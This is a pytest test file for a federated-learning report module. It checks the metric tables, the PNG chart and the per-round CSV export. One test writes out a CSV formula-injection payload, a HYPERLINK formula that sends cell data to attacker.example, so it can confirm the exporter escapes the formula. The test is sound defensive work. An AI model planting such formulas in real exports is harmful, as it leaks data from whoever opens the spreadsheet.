"""nbfed.report: report.md, metrics.png, rounds.csv and the Table 2 shape."""

from __future__ import annotations

import csv
import json
import struct
from pathlib import Path

import pytest
from rich.console import Console

from nbfed.metrics import summarize_round
from nbfed.report import render_table, site_label, table2, write_report, write_rounds_csv

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
SITES = ["site-a", "site-b", "site-c"]

# Per-round confusion counts per site; summed they give round 3 = tp 40, fp 10, tn 45, fn 5.
ROUND_COUNTS = [
    {"site-a": (8, 6, 10, 6), "site-b": (8, 5, 10, 7), "site-c": (10, 4, 11, 5)},
    {"site-a": (11, 4, 12, 3), "site-b": (11, 3, 12, 5), "site-c": (11, 3, 14, 4)},
    {"site-a": (13, 3, 15, 2), "site-b": (13, 4, 14, 2), "site-c": (14, 3, 16, 1)},
]


def _evaluate(counts: dict[str, tuple[int, int, int, int]]) -> dict:
    out = {}
    for site, (tp, fp, tn, fn) in counts.items():
        n = tp + fp + tn + fn
        out[site] = {"accuracy": (tp + tn) / n, "loss": 0.5, "tp": tp, "fp": fp, "tn": tn, "fn": fn, "num-examples": n}
    return out


def _baseline(tp: int, fp: int, tn: int, fn: int) -> dict:
    n = tp + fp + tn + fn
    return {
        "tp": tp,
        "fp": fp,
        "tn": tn,
        "fn": fn,
        "sensitivity": tp / (tp + fn),
        "specificity": tn / (tn + fp),
        "ppv": tp / (tp + fp),
        "npv": tn / (tn + fn),
        "f1": 2 * tp / (2 * tp + fp + fn),
        "accuracy": (tp + tn) / n,
    }


def make_results(tmp_path: Path, *, baselines: bool, num_rounds: int = 3, status: str = "completed") -> Path:
    results = tmp_path / "results"
    results.mkdir()
    run = {
        "app": "pneumonia-fl",
        "notebook": "pneumonia.ipynb",
        "notebook_sha256": "ab12" * 16,
        "run_config": {"num_rounds": num_rounds, "local_epochs": 1, "lr": 0.001},
        "num_rounds": num_rounds,
        "sites": SITES,
        "started_at": "2025-01-02T03:04:05+00:00",
        "finished_at": "2025-01-02T03:14:05+00:00" if status == "completed" else None,
        "status": status,
    }
    rounds = []
    for i, counts in enumerate(ROUND_COUNTS, start=1):
        evaluate = _evaluate(counts)
        rounds.append(
            {
                "round": i,
                "duration_s": 10.0 + i,
                "train": {s: {"loss": 1.0 / i, "num-examples": 100} for s in SITES},
                "evaluate": evaluate,
                "pooled": summarize_round(evaluate),
            }
        )
    (results / "run.json").write_text(json.dumps(run), encoding="utf-8")
    (results / "rounds.json").write_text(json.dumps(rounds), encoding="utf-8")
    if baselines:
        data = {
            "site-a": _baseline(30, 20, 35, 15),  # sensitivity 66.7%, accuracy 65.0%
            "site-b": _baseline(20, 5, 50, 25),  # sensitivity 44.4%, accuracy 70.0%
            "site-c": _baseline(45, 45, 10, 0),  # sensitivity 100.0%, specificity 18.2%
            "federation": _baseline(40, 10, 45, 5),  # accuracy 85.0%
        }
        (results / "baselines.json").write_text(json.dumps(data), encoding="utf-8")
    return results


def _png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data[:8] == PNG_SIGNATURE
    assert data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


def test_site_label():
    assert site_label("site-a") == "Site A"
    assert site_label("site_10") == "Site 10"
    assert site_label("hospital-UKE") == "Hospital UKE"
    assert site_label("berlin") == "Berlin"


def test_table2_without_baselines_is_final_round_federation(tmp_path):
    columns, rows = table2(make_results(tmp_path, baselines=False))
    assert columns == ["Federation"]
    assert [label for label, _ in rows] == ["Sensitivity", "Specificity", "PPV", "NPV", "F1 score", "Accuracy"]
    values = dict(rows)
    assert values["Sensitivity"] == [pytest.approx(40 / 45)]
    assert values["Specificity"] == [pytest.approx(45 / 55)]
    assert values["PPV"] == [pytest.approx(0.8)]
    assert values["NPV"] == [pytest.approx(0.9)]
    assert values["F1 score"] == [pytest.approx(80 / 95)]
    assert values["Accuracy"] == [pytest.approx(0.85)]


def test_table2_with_baselines(tmp_path):
    columns, rows = table2(make_results(tmp_path, baselines=True))
    assert columns == ["Site A", "Site B", "Site C", "Federation"]
    values = dict(rows)
    assert values["Sensitivity"] == pytest.approx([30 / 45, 20 / 45, 1.0, 40 / 45])
    assert values["Accuracy"] == pytest.approx([0.65, 0.70, 0.55, 0.85])


def test_table2_pooled_recomputed_when_missing_and_none_when_undefined(tmp_path):
    results = make_results(tmp_path, baselines=False)
    rounds = json.loads((results / "rounds.json").read_text())
    rounds[-1].pop("pooled")
    for site in rounds[-1]["evaluate"].values():
        site.update(tp=0, fn=0)  # no positives anywhere: sensitivity undefined
    (results / "rounds.json").write_text(json.dumps(rounds))
    values = dict(table2(results)[1])
    assert values["Sensitivity"] == [None]
    assert values["Specificity"][0] is not None


def test_write_report_without_baselines(tmp_path):
    results = make_results(tmp_path, baselines=False)
    path = write_report(results)
    assert path == results / "report.md"
    md = path.read_text(encoding="utf-8")
    assert "pneumonia.ipynb" in md
    assert "ab12" * 16 in md
    assert "completed" in md
    assert "3 of 3" in md
    assert "site-a, site-b, site-c" in md
    assert "| Metric | Federation |" in md
    assert "| Sensitivity | 88.9% |" in md
    assert "| Specificity | 81.8% |" in md
    assert "| PPV | 80.0% |" in md
    assert "| NPV | 90.0% |" in md
    assert "| F1 score | 84.2% |" in md
    assert "| Accuracy | 85.0% |" in md
    assert "Site A" not in md
    # Per-round table: round, duration, contributing sites, pooled metrics.
    assert "| Round | Duration (s) | Sites | Sensitivity | Specificity | F1 score | Accuracy |" in md
    assert "| 3 | 13.0 | 3 | 88.9% | 81.8% | 84.2% | 85.0% |" in md
    assert "metrics.png" in md
    assert "summed" in md and "test split" in md
    assert (results / "metrics.png").is_file()
    assert (results / "rounds.csv").is_file()


def test_write_report_with_baselines(tmp_path):
    results = make_results(tmp_path, baselines=True)
    md = write_report(results).read_text(encoding="utf-8")
    assert "| Metric | Site A | Site B | Site C | Federation |" in md
    assert "| Sensitivity | 66.7% | 44.4% | 100.0% | 88.9% |" in md
    assert "| Specificity | 63.6% | 90.9% | 18.2% | 81.8% |" in md
    assert "| Accuracy | 65.0% | 70.0% | 55.0% | 85.0% |" in md


def test_report_shows_na_for_undefined(tmp_path):
    results = make_results(tmp_path, baselines=True)
    data = json.loads((results / "baselines.json").read_text())
    data["site-b"] = {"tp": 0, "fp": 0, "tn": 90, "fn": 0}
    (results / "baselines.json").write_text(json.dumps(data))
    md = write_report(results).read_text(encoding="utf-8")
    assert "| Sensitivity | 66.7% | n/a | 100.0% | 88.9% |" in md


def test_metrics_png_is_valid_and_reasonable(tmp_path):
    for baselines in (False, True):
        sub = tmp_path / str(baselines)
        sub.mkdir()
        results = make_results(sub, baselines=baselines)
        write_report(results)
        png = results / "metrics.png"
        width, height = _png_size(png)
        assert 400 <= width <= 3000 and 300 <= height <= 2000
        assert png.stat().st_size > 10_000
        if baselines:
            assert width > height  # second panel side by side


def test_output_is_deterministic(tmp_path):
    results = make_results(tmp_path, baselines=True)
    write_report(results)
    first = {name: (results / name).read_bytes() for name in ("report.md", "metrics.png", "rounds.csv")}
    (results / "rounds.csv").unlink()
    write_report(results)
    second = {name: (results / name).read_bytes() for name in first}
    assert first == second


def test_rounds_csv_one_row_per_round(tmp_path):
    results = make_results(tmp_path, baselines=False)
    path = write_rounds_csv(results)
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["round"] for r in rows] == ["1", "2", "3"]
    assert list(rows[0])[:4] == ["round", "duration_s", "sites", "site_names"]
    last = rows[-1]
    assert last["sites"] == "3"
    assert last["site_names"] == "site-a;site-b;site-c"
    assert float(last["duration_s"]) == 13.0
    assert float(last["accuracy"]) == pytest.approx(0.85)
    assert float(last["sensitivity"]) == pytest.approx(40 / 45)
    assert (last["tp"], last["fp"], last["tn"], last["fn"]) == ("40", "10", "45", "5")
    assert last["num_examples"] == "100"
    assert float(last["loss"]) == pytest.approx(0.5)


def test_rounds_csv_never_starts_a_cell_with_a_formula(tmp_path):
    """A metric's name is the notebook's or a site's word: a spreadsheet shows it, never runs it."""
    results = make_results(tmp_path, baselines=False)
    rounds = json.loads((results / "rounds.json").read_text())
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    for round_ in rounds:
        for metrics in round_["evaluate"].values():
            metrics[formula] = 1.0
        round_["pooled"] = summarize_round(round_["evaluate"])
    (results / "rounds.json").write_text(json.dumps(rounds), encoding="utf-8")
    with write_rounds_csv(results).open(newline="", encoding="utf-8") as fh:
        header = next(csv.reader(fh))
    assert "'" + formula in header and formula not in header, header
    assert not any(cell[:1] in "=+-@" for cell in header if cell), header


def test_write_report_keeps_existing_rounds_csv(tmp_path):
    results = make_results(tmp_path, baselines=False)
    (results / "rounds.csv").write_text("written by the server\n")
    write_report(results)
    assert (results / "rounds.csv").read_text() == "written by the server\n"


def test_partial_run_with_fewer_rounds(tmp_path):
    results = make_results(tmp_path, baselines=False, num_rounds=5, status="failed")
    rounds = json.loads((results / "rounds.json").read_text())
    del rounds[1]["evaluate"]["site-c"]
    rounds[1]["pooled"] = summarize_round(rounds[1]["evaluate"])
    rounds[1]["errors"] = {"node-42": "evaluate: CUDA out of memory\nat line 3"}
    (results / "rounds.json").write_text(json.dumps(rounds))
    run = json.loads((results / "run.json").read_text())
    run["error"] = "RuntimeError: too few sites"
    (results / "run.json").write_text(json.dumps(run))
    md = write_report(results).read_text(encoding="utf-8")
    assert "- Round 2, node-42: evaluate: CUDA out of memory at line 3" in md
    assert "- Run: RuntimeError: too few sites" in md
    assert "3 of 5" in md
    assert "failed" in md
    assert "not finished" in md
    assert "| 2 | 12.0 | 2 |" in md


def test_empty_rounds(tmp_path):
    results = make_results(tmp_path, baselines=False, status="running")
    (results / "rounds.json").write_text("[]")
    md = write_report(results).read_text(encoding="utf-8")
    assert "0 of 3" in md
    assert "| Accuracy | n/a |" in md
    _png_size(results / "metrics.png")


@pytest.mark.parametrize("missing", ["run.json", "rounds.json"])
def test_missing_files_give_clear_error(tmp_path, missing):
    results = make_results(tmp_path, baselines=False)
    (results / missing).unlink()
    for func in (write_report, table2, render_table):
        with pytest.raises(FileNotFoundError, match=missing.replace(".", r"\.")) as excinfo:
            func(results)
        assert "may not have finished" in str(excinfo.value)


def test_missing_results_dir(tmp_path):
    with pytest.raises(FileNotFoundError, match="does not exist"):
        write_report(tmp_path / "nope")


def test_render_table(tmp_path):
    table = render_table(make_results(tmp_path, baselines=True))
    console = Console(width=120, record=True, color_system=None)
    console.print(table)
    text = console.export_text()
    for header in ("Metric", "Site A", "Site B", "Site C", "Federation"):
        assert header in text
    assert "88.9%" in text and "F1 score" in text


def test_round_without_evaluate_results(tmp_path):
    # The recorder writes "pooled": {} when no site returned evaluate results.
    results = make_results(tmp_path, baselines=False)
    rounds = json.loads((results / "rounds.json").read_text())
    rounds[-1]["evaluate"] = {}
    rounds[-1]["pooled"] = {}
    (results / "rounds.json").write_text(json.dumps(rounds))
    md = write_report(results).read_text(encoding="utf-8")
    assert "| Accuracy | n/a |" in md
    assert "| 3 | 13.0 | 3 | n/a | n/a | n/a | n/a |" in md
    _png_size(results / "metrics.png")


def test_round_overhead_is_shown_where_the_sites_reported_their_time(tmp_path):
    results = make_results(tmp_path, baselines=False)
    rounds = json.loads((results / "rounds.json").read_text())
    for r in rounds:
        r["site_seconds"] = {"train": {"site-a": 4.0, "site-b": 6.0}, "evaluate": {"site-a": 1.0}}
        r["overhead_s"] = r["duration_s"] - 7.0
    (results / "rounds.json").write_text(json.dumps(rounds))
    md = write_report(results).read_text()
    assert "| Round | Duration (s) | Overhead (s) | Sites |" in md
    assert "| 3 | 13.0 | 6.0 | 3 |" in md
    with write_rounds_csv(results).open(newline="") as fh:
        assert [float(r["overhead_s"]) for r in csv.DictReader(fh)] == [4.0, 5.0, 6.0]
